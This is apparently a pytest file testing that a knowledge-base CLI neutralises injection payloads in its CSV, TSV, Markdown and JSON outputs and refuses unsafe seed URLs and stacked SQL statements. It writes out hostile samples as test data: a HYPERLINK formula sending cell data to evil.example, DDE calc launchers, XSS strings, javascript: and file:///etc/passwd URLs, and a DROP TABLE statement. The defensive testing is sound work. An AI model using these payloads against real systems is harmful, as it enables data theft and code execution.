"""Hostile input, outputs: what the data holds never acts in the program an output is made for.

A seed whose names, summaries, actors, notes, quotes and figures carry spreadsheet formulas
(=HYPERLINK, DDE, + - @, a leading tab, full-width ＝), HTML (<script>, <img onerror>) and Markdown
links to javascript: and data: URLs is printed by every command in every format: csv and tsv cells
that a spreadsheet would run begin with ' (numbers stay numbers; --raw-cells gives scripts the cells as
stored), Markdown shows the text and no tag or link, json and jsonl carry the values exactly. The seed
itself refuses source URLs that are not http(s) and a schema_version kb does not read; kb sql takes
SELECT 1;; as one statement; an output encoding that cannot carry the text is named, with the fix,
before anything is printed."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re

import pytest
from conftest import GOOD
from hostile import expect, kb_inprocess, kb_process

CAT = "outputs"

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "space": " =1+1",
    "fullwidth": "＝1+1",
    "script": "<script>alert(document.domain)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "jslink": "[click](javascript:alert(1))",
    "datalink": "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "reflink": "[r]: javascript:alert(1)",
    "entity": "&#106;avascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# what no Markdown output may hold as it stands: a tag, an autolink, a link or image to a script (a ] not
# escaped before the URL), an entity
MD_RAW = re.compile(r"<script|<img|<javascript:|(?<!\\)\]\((?:javascript|data):|(?<!\\)\]: javascript:|(?<!&amp;)&#106;")


def _y(s: str) -> str:
    return json.dumps(s, ensure_ascii=False)  # a YAML double-quoted scalar


@pytest.fixture(scope="module")
def payload_db(tmp_path_factory):
    """tests/seeds/good.yaml with the payloads in every kind of text field, built."""
    text = GOOD.read_text(encoding="utf-8")
    p = PAYLOADS
    text = text.replace("name_en: Xi'an proof of concept", f"name_en: {_y(p['hyperlink'])}")
    text = text.replace("summary_en: Xi'an subsidises proof-of-concept centres.",
                        f"summary_en: {_y(p['script'] + ' ' + p['img'] + ' ' + p['jslink'])}\n"
                        f"    notes: {_y(p['datalink'] + ' ' + p['entity'] + ' ' + p['autolink'])}\n"
                        f"    short_names: [{_y(p['reflink'])}]\n"
                        "    actors: [" + ", ".join(_y(p[k]) for k in ("dde", "plus", "minus", "at", "tab", "space",
                                                                       "fullwidth")) + "]")
    text = text.replace("name_en: A law", f"name_en: {_y(p['minus'])}", 1)
    text = text.replace("name_en: Proof-of-concept centre", f"name_en: {_y(p['dde'])}", 1)
    text = text.replace("title_en: Test report", f"title_en: {_y(p['at'])}", 1)
    text = text.replace("original: 最高100万元", f"original: 最高100万元\n        label_en: {_y(p['plus'])}\n"
                                               f"        note: {_y(p['script'])}", 1)
    base = tmp_path_factory.mktemp("payloads")
    seed = base / "seed.yaml"
    seed.write_text(text, encoding="utf-8")
    db = base / "kb.sqlite"
    run = kb_inprocess("load", str(seed), "--db", str(db))
    assert run.code == 0, run.err
    return db


COMMANDS = {
    "query": ("query",),
    "search": ("search", "概念验证"),
    "show": ("show", "xian-poc"),
    "list": ("list", "mechanisms"),
    "figures": ("figures",),
    "compare": ("compare", "xian", "shaanxi"),
    "timeline": ("timeline",),
    "ask": ("ask", "西安 概念验证"),
    "export records": ("export", "records"),
    "export evidence": ("export", "evidence"),
    "export sources": ("export", "sources"),
    "sql": ("sql", "SELECT name_en, summary_en, actors, -5 AS n, '-5' AS s FROM records ORDER BY id"),
    "chart data": ("chart", "subsidy-cap", "--by", "region"),
}
FORMATS = ("csv", "tsv", "md", "json", "jsonl", "table")


def _cells(out: str, fmt: str) -> list[str]:
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(out)) for c in row]
    return [c for line in out.splitlines() for c in line.split("\t")]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("command", COMMANDS)
def test_every_format_is_safe_to_open(payload_db, command, fmt):
    if command == "chart data" and fmt == "table":
        fmt = "chart"  # kb chart draws where others print a table
    run = kb_inprocess(*COMMANDS[command], "-f", fmt, "--db", str(payload_db))
    expect(run, 0, category=CAT, case=f"injection payloads: kb {command} -f {fmt}", lines=None)
    out = run.out
    assert out.strip(), "something printed"
    if fmt in ("csv", "tsv"):
        for cell in _cells(out, fmt):
            if cell.startswith(FORMULA) or cell.lstrip().startswith(FORMULA):
                assert _number(cell), f"a cell a spreadsheet would run: {cell!r}"
        if command in ("query", "export records", "sql"):
            assert "'=HYPERLINK(" in out or "'=cmd|" in out, "the payload is there, neutralised"
    elif fmt == "md":
        assert not MD_RAW.search(out), f"raw {MD_RAW.search(out).group()!r} in Markdown"
    elif fmt in ("json", "jsonl"):
        docs = [json.loads(out)] if fmt == "json" else [json.loads(line) for line in out.splitlines()]
        text = json.dumps(docs, ensure_ascii=False)
        if command in ("query", "show", "export records", "sql"):
            assert json.dumps(PAYLOADS["hyperlink"], ensure_ascii=False)[1:-1] in text or \
                json.dumps(PAYLOADS["script"], ensure_ascii=False)[1:-1] in text, "scripts get the values exactly"


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_raw_cells_give_scripts_the_cells_as_stored(payload_db, fmt):
    args = ("sql", "SELECT name_en FROM records WHERE id = 'xian-poc'", "-f", fmt, "--db", str(payload_db))
    safe = kb_inprocess(*args)
    raw = kb_inprocess(*args, "--raw-cells")
    expect(raw, 0, category=CAT, case=f"--raw-cells, {fmt}", lines=0)
    assert _cells(safe.out, fmt)[1] == "'" + PAYLOADS["hyperlink"]
    assert _cells(raw.out, fmt)[1] == PAYLOADS["hyperlink"]


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised(payload_db):
    run = kb_inprocess("sql", "SELECT -5 AS n, -2.5 AS r, '-5' AS s, '+1' AS p", "-f", "csv", "--db", str(payload_db))
    expect(run, 0, category=CAT, case="negative numbers in csv", lines=0)
    assert run.out.splitlines() == ["n,r,s,p", "-5,-2.5,'-5,'+1"]


def test_a_formula_header_is_neutralised(payload_db):
    run = kb_inprocess("sql", 'SELECT 1 AS "=HYPERLINK(1)"', "-f", "csv", "--db", str(payload_db))
    expect(run, 0, category=CAT, case="a formula as a column name", lines=0)
    assert run.out.splitlines()[0] == "'=HYPERLINK(1)"


def test_export_all_neutralises_every_file(payload_db, tmp_path):
    run = kb_inprocess("export", "--all", "--dir", str(tmp_path / "x"), "--db", str(payload_db))
    expect(run, 0, category=CAT, case="export --all: every csv file", lines=None)
    for path in (tmp_path / "x").glob("*.csv"):
        for cell in _cells(path.read_text(encoding="utf-8"), "csv"):
            assert not (cell.startswith(FORMULA) and not _number(cell)), (path.name, cell)


def test_graph_and_chart_markdown_and_csv(payload_db):
    for args in (("graph", "xian-poc", "-f", "md"), ("graph", "xian-poc", "-f", "csv"), ("chart", "subsidy-cap",
                                                                                          "-f", "md")):
        run = kb_inprocess(*args, "--db", str(payload_db))
        expect(run, 0, category=CAT, case=f"kb {' '.join(args)}", lines=None)
        assert not MD_RAW.search(run.out)


# ---------------------------------------------------------------- the seed refuses what would act
URLS = ["javascript:alert(document.domain)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://example.org/x", "//evil.example/", " javascript:alert(1)",
        "https://", "https://a b.example/"]


@pytest.mark.parametrize("url", URLS)
def test_a_source_url_that_is_not_http_is_refused(tmp_path, url):
    seed = tmp_path / "seed.yaml"
    seed.write_text(GOOD.read_text(encoding="utf-8").replace("title_en: Test report",
                                                             f"title_en: Test report\n    url: {_y(url)}", 1),
                    encoding="utf-8")
    db = tmp_path / "kb.sqlite"
    for args in (("validate", str(seed)), ("load", str(seed), "--db", str(db))):
        run = kb_inprocess(*args)
        expect(run, 1, "must be an http:// or https:// URL", category="seeds",
               case=f"source url {url!r}: kb {args[0]}", lines=2)
        assert "(at sources[0].url)" in run.err
    assert not db.exists()


def test_an_http_source_url_is_kept(tmp_path):
    seed = tmp_path / "seed.yaml"
    seed.write_text(GOOD.read_text(encoding="utf-8").replace(
        "title_en: Test report", "title_en: Test report\n    url: https://www.most.gov.cn/x?a=1&b=2", 1),
        encoding="utf-8")
    run = kb_inprocess("validate", str(seed))
    expect(run, 0, "valid", category="seeds", case="an https source url")


@pytest.mark.parametrize(("value", "message"), [("2", ("schema_version 2 is not one this kb reads: it reads "
                                                        "schema_version 1")),
                                                ("0", "schema_version 0 is not one this kb reads"),
                                                ("x", "is not a number")])
def test_an_unknown_schema_version_is_an_error(tmp_path, value, message):
    """The issue: a seed with any meta.schema_version was accepted silently."""
    seed = tmp_path / "seed.yaml"
    seed.write_text(GOOD.read_text(encoding="utf-8").replace("title: test seed",
                                                             f"title: test seed\n  schema_version: {value}", 1),
                    encoding="utf-8")
    for args in (("validate", str(seed)), ("load", str(seed), "--db", str(tmp_path / "kb.sqlite"))):
        run = kb_inprocess(*args)
        expect(run, 1, message, category="seeds", case=f"meta.schema_version {value}: kb {args[0]}", lines=2)
        assert "(at meta.schema_version)" in run.err
    ok = GOOD.read_text(encoding="utf-8").replace("title: test seed", "title: test seed\n  schema_version: 1", 1)
    seed.write_text(ok, encoding="utf-8")
    expect(kb_inprocess("validate", str(seed)), 0, "valid", category="seeds", case="meta.schema_version 1")


# ---------------------------------------------------------------- one statement
@pytest.mark.parametrize(("statement", "out"), [("SELECT 1;;", "1\n"), ("SELECT 1; ;  ;", "1\n"),
                                                ("SELECT 1; -- the end\n;", "1\n"), ("SELECT 1;/* a */;", "1\n"),
                                                ("SELECT ';;' AS x;;", ";;\n"), ("SELECT 'a'';' AS x ;", "a';\n")])
def test_trailing_empty_statements_are_one_statement(payload_db, statement, out):
    """The issue: kb sql 'SELECT 1;;' was refused as several statements."""
    run = kb_inprocess("sql", statement, "-f", "csv", "--db", str(payload_db))
    expect(run, 0, category="sql", case=f"one statement: {statement!r}", lines=0)
    assert run.out.split("\n", 1)[1] == out


@pytest.mark.parametrize("statement", ["SELECT 1;; SELECT 2", "SELECT 1; DROP TABLE records", "SELECT 1; x"])
def test_a_second_statement_is_still_refused(payload_db, statement):
    run = kb_inprocess("sql", statement, "--db", str(payload_db))
    expect(run, 2, "kb sql runs one statement at a time", category="sql", case=f"two statements: {statement!r}",
           out="")


# ---------------------------------------------------------------- encodings
@pytest.mark.parametrize(("encoding", "args"), [("ascii", ("query",)), ("latin-1", ("search", "中试")),
                                                ("ascii", ("show", "law-a")), ("cp1252", ("export", "records")),
                                                ("ascii", ("sql", "SELECT 1"))], ids=lambda v: str(v))
def test_an_output_encoding_that_cannot_carry_the_text(payload_db, encoding, args):
    """The issue: PYTHONIOENCODING=ascii kb query printed part of the output, then 'not valid UTF-8'."""
    run = kb_process(*args, "--db", str(payload_db), env={"PYTHONIOENCODING": encoding})
    expect(run, 2, "cannot carry kb's text", category="arguments", case=f"PYTHONIOENCODING={encoding} kb {args[0]}",
           out="")
    named = re.search(r"the output encoding (\S+) cannot", run.err).group(1)
    assert codecs.lookup(named).name == codecs.lookup(encoding).name and "PYTHONIOENCODING=utf-8" in run.err


def test_an_ascii_output_encoding_with_the_output_in_a_file(payload_db, tmp_path):
    run = kb_process("export", "records", "-o", str(tmp_path / "x.csv"), "--db", str(payload_db),
                     env={"PYTHONIOENCODING": "ascii"})
    expect(run, 0, category="arguments", case="PYTHONIOENCODING=ascii kb export -o FILE", lines=0)
    assert "西安概念验证" in (tmp_path / "x.csv").read_text(encoding="utf-8")


C_LOCALE = {"LC_ALL": "C", "LANG": None, "LC_CTYPE": None, "PYTHONUTF8": "0", "PYTHONIOENCODING": None}


@pytest.mark.parametrize("args", [("search", "概念验证"), ("query", "--region", "西安", "-f", "csv"),
                                  ("show", "西安概念验证"), ("sql", "SELECT '中试' AS x")], ids=lambda a: a[0])
def test_a_c_locale_without_utf8_mode_reads_its_arguments_as_text(payload_db, args):
    """The issue: LC_ALL=C PYTHONUTF8=0 kb search 中试 called a valid argument invalid UTF-8."""
    run = kb_process(*args, "--db", str(payload_db), env=C_LOCALE)
    expect(run, 0, category="arguments", case=f"LC_ALL=C PYTHONUTF8=0 kb {args[0]} (Chinese argument)", lines=None)
    assert "not valid UTF-8" not in run.err
    assert any("\u4e00" <= ch <= "\u9fff" for ch in run.out), "the answer, in UTF-8"


def test_a_c_locale_still_refuses_bytes_that_are_not_utf8(payload_db):
    run = kb_process(b"search", b"\xe4\xb8", "--db", str(payload_db), env=C_LOCALE)
    expect(run, 2, "argument 2 is not valid UTF-8", category="arguments", case="LC_ALL=C, bad UTF-8 argument",
           out="")



@pytest.mark.parametrize("args", [("--help",), ("query", "--help")], ids=" ".join)
def test_help_in_an_encoding_that_cannot_carry_it(args):
    run = kb_process(*args, env={"PYTHONIOENCODING": "latin-1"})
    expect(run, 2, "cannot be written in the latin-1 encoding", category="arguments",
           case=f"PYTHONIOENCODING=latin-1 kb {' '.join(args)}", out="")
    assert "PYTHONIOENCODING=utf-8" in run.err


def test_help_into_a_full_disk():
    with open("/dev/full", "w") as full:
        run = kb_process("--help", stdout=full)
    expect(run, 1, "kb: cannot write the output: No space left on device", category="arguments",
           case="kb --help > /dev/full")
